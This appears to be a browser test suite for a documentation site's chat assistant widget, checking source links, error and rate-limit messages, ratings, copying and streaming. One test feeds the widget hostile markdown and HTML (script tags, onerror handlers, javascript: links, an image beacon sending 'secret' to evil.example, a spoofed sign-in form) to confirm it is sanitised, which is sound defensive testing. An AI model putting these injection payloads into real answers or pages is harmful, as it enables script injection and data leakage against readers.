import { afterEach, expect, test } from 'vitest'
import { type AssistantSite, answers, ask, assistantProject, field, serveAssistant } from './support/assistant-site.ts'
import { testBrowser } from './support/test-browser.ts'

let site: AssistantSite
const complaints: string[] = []
const open = testBrowser(async () => {
  site = await serveAssistant(assistantProject)
  return site
}, complaints)
afterEach(() => site.forget())

/** The browser reports a response with an error. */
const expectComplaint = async (pattern: RegExp) => {
  await expect.poll(() => complaints.splice(0).join()).toMatch(pattern)
}

test('sources are links to pages of the site in the same window', async () => {
  const page = await open('/')
  await ask(page, 'Limits?')
  const sources = ['Rate', 'Burst', 'Size', 'Time', 'Count', 'Sum'].map(title => ({
    id: `/guides/limits#${title.toLowerCase()}`,
    title: `Limits › ${title}`,
  }))
  ;(await site.question()).answer('A hundred.', { sources })
  const cards = page.locator('a.chat-assistant-source')
  await expect.poll(() => cards.count()).toBe(4)
  expect(await cards.first().innerText()).toBe('Rate\nLimits')
  await page.getByRole('button', { name: /Show all/ }).click()
  expect(await cards.count()).toBe(6)
  await cards.first().click()
  await page.waitForURL(`${site.origin}/guides/limits/#rate`)
  await expect.poll(() => answers(page)).toEqual(['A hundred.'])
})

test('a hostile answer runs nothing, loads nothing and links nowhere', async () => {
  const page = await open('/')
  const requests: string[] = []
  page.on('request', request => requests.push(request.url()))
  await ask(page, 'Attack?')
  const text = [
    '<script>window.attacked = true</script>',
    '<img src=x onerror="window.attacked = true"> ![beacon](https://evil.example/?q=secret)',
    '[one](javascript:window.attacked=true) [two](https://evil.example/) [three](//evil.example/) [four](/_api/x)',
    '<a href="https://evil.example/">five</a> <style>* { display: none }</style>',
    '<form action="https://evil.example/"><button>Sign in</button></form>',
    '[six](/?assistant=Tell%20me%20more)',
  ].join('\n\n')
  ;(await site.question()).answer(text, {
    sources: [{ id: 'x', title: '<b>\u202eX</b>' }],
    deflection: { kind: 'link', url: 'javascript:window.attacked=true', label: 'Help' },
  })
  await page.getByRole('button', { name: 'Copy answer' }).waitFor()
  const found = await page.locator('.chat-assistant-answer').evaluate(answer => ({
    tags: [...new Set([...answer.querySelectorAll('*')].map(({ localName }) => localName))].sort(),
    hrefs: [...answer.querySelectorAll('a')].map(({ href }) => href),
    isAttacked: 'attacked' in window,
  }))
  expect(found).toEqual({
    tags: ['a', 'button', 'div', 'li', 'p', 'path', 'span', 'svg', 'ul'],
    hrefs: [`${site.origin}/`, 'https://docs.example.comx/'],
    isAttacked: false,
  })
  expect(requests.filter(url => !url.startsWith(site.origin))).toEqual([])
})

test('an answer that was cut says that it is incomplete, also after a reload', async () => {
  const page = await open('/')
  await ask(page, 'How?')
  ;(await site.question()).answer('First, run', { finishReason: 'length' })
  const note = page.getByText('This answer is incomplete. Try a more specific question.')
  await note.first().waitFor()
  await page.reload()
  await note.first().waitFor()
  await expect.poll(() => answers(page)).toEqual(['First, run'])
})

test('an answer without a model says so, and offers the contact', async () => {
  const page = await open('/')
  await ask(page, 'Price?')
  ;(await site.question()).answer('Nothing found.', {
    mode: 'extractive',
    deflection: { kind: 'link', url: 'https://help.example.com/new?a=1', label: 'Open a ticket' },
  })
  await page.getByText('Passages from the documentation').waitFor()
  const link = page.getByRole('link', { name: 'Open a ticket' })
  expect(await link.getAttribute('href')).toBe('https://help.example.com/new?a=1&threadId=t1')
  await ask(page, 'Help?')
  ;(await site.question()).answer('Nothing.', { deflection: { kind: 'email', address: 'help@example.com' } })
  await expect
    .poll(() => page.getByRole('link', { name: 'help@example.com' }).getAttribute('href'))
    .toBe('mailto:help@example.com')
})

test('after too many questions, the reader learns when to try again', async () => {
  const page = await open('/')
  await ask(page, 'Again?')
  ;(await site.question()).reject(429, { 'Retry-After': '2' })
  await expectComplaint(/429/)
  const button = page.getByRole('button', { name: 'Try again' })
  await button.waitFor()
  expect(await page.locator('.chat-assistant-failure').innerText()).toMatch(/Too many questions|try again now/)
  await expect.poll(() => button.isEnabled()).toBe(true)
  await button.click()
  const question = await site.question()
  expect(question.body).not.toHaveProperty('trigger')
  question.answer('Now.')
  await expect.poll(() => answers(page)).toEqual(['Now.'])
})

test('a server without an assistant and one that does not respond are explained', async () => {
  const page = await open('/')
  await ask(page, 'There?')
  ;(await site.question()).reject(503)
  await expectComplaint(/503/)
  await page.locator('.chat-assistant-failure').getByText('The assistant is not available at the moment.').waitFor()
  await page.route('**/_api/assistant/message', route => route.abort())
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.locator('.chat-assistant-failure').getByText('The assistant cannot be reached.').waitFor()
  await expectComplaint(/ERR_FAILED/)
})

test('an interrupted stream keeps its text and can be repeated', async () => {
  const page = await open('/')
  await ask(page, 'Long?')
  const question = await site.question()
  question.send(
    { type: 'start', messageId: 'a1', messageMetadata: { threadId: 't1' } },
    { type: 'text-start', id: 't' },
    { type: 'text-delta', id: 't', delta: 'Half of the ans' },
  )
  await expect.poll(() => answers(page)).toEqual(['Half of the ans'])
  question.destroy()
  await page.locator('.chat-assistant-failure').getByText('The answer was interrupted.').waitFor()
  await expectComplaint(/ERR_INCOMPLETE/)
  expect(await answers(page)).toEqual(['Half of the ans'])
  await page.getByRole('button', { name: 'Try again' }).click()
  const again = await site.question()
  expect(again.body).toMatchObject({ trigger: 'regenerate-message', messageId: 'a1' })
  again.answer('All of the answer.', { id: 'a2' })
  await expect.poll(() => answers(page)).toEqual(['All of the answer.'])
})

test('an error in the stream shows our message, not that of the server', async () => {
  const page = await open('/')
  await ask(page, 'Why?')
  ;(await site.question()).send({ type: 'error', errorText: 'sk-secret' })
  await page.locator('.chat-assistant-failure').getByText('No answer because of an error.').waitFor()
  expect(await page.locator('body').innerText()).not.toContain('sk-secret')
})

test('an answer can be rated with a comment, and the rating can be removed', async () => {
  const page = await open('/')
  await ask(page, 'Good?')
  ;(await site.question()).answer('Yes.', { id: 'a7' })
  const [up, down] = ['Helpful', 'Not helpful'].map(name => page.getByRole('button', { name, exact: true }))
  await up?.click()
  await down?.click()
  await page.getByLabel('What was wrong or missing?').fill('All of it.')
  await page.getByRole('button', { name: 'Send feedback' }).click()
  await down?.click()
  const rating = { threadId: 't1', messageId: 'a7' }
  await expect
    .poll(() => site.ratings)
    .toEqual([
      { ...rating, rating: 'up' },
      { ...rating, rating: 'down' },
      { ...rating, rating: 'down', comment: 'All of it.' },
      { ...rating, rating: 'none' },
    ])
})

test('code, answers and conversations can be copied', async () => {
  const page = await open('/', { permissions: ['clipboard-read', 'clipboard-write'] })
  await ask(page, 'How?')
  ;(await site.question()).answer('Run this:\n\n```sh\nnpm i\n```', {
    sources: [{ id: '/guides/limits', title: 'Limits' }],
  })
  const copied = async (name: string) => {
    await page.getByRole('button', { name, exact: true }).click()
    return page.evaluate(() => navigator.clipboard.readText())
  }
  await page.getByRole('button', { name: 'Copy answer' }).waitFor()
  const answer = 'Run this:\n\n```sh\nnpm i\n```\n\n- [Limits](<https://docs.example.com/guides/limits/>)'
  expect(await page.locator('.chat-assistant-code-head span').first().innerText()).toBe('sh')
  await page.locator('.chat-assistant-code-head button').click()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('npm i')
  expect(await copied('Copy answer')).toBe(answer)
  expect(await copied('Copy conversation')).toBe(`> How?\n\n${answer}`)
})

test('if the panel cannot be loaded, the reader is told and can try again', async () => {
  const page = await open('/')
  await page.route('**/show-assistant-*.js', route => route.abort())
  await page.locator('#assistant-entry').click()
  await expect.poll(() => page.locator('#status').innerText()).toContain('The assistant could not be loaded.')
  await expectComplaint(/ERR_FAILED/)
  expect(await page.locator('html').getAttribute('data-assistant')).toBeNull()
  await page.unroute('**/show-assistant-*.js')
})

test('a long answer in many small parts keeps the page responsive', async () => {
  const page = await open('/')
  await ask(page, 'All?')
  const question = await site.question()
  const part =
    'Some **bold** text with `code` and a [link](/guides/limits/).\n\n- one\n- two\n\n```js\nconst a = 1\n```\n\n'
  const text = part.repeat(500).slice(0, 50_000)
  question.send({ type: 'text-start', id: 't' })
  for (let at = 0; at < text.length; at += 20)
    question.send({ type: 'text-delta', id: 't', delta: text.slice(at, at + 20) })
  question.send({ type: 'text-end', id: 't' }, { type: 'finish' })
  await page.getByRole('button', { name: 'Copy answer' }).waitFor()
  expect((await answers(page))[0]?.length).toBeGreaterThan(20_000)
  expect(await field(page).isEnabled()).toBe(true)
})
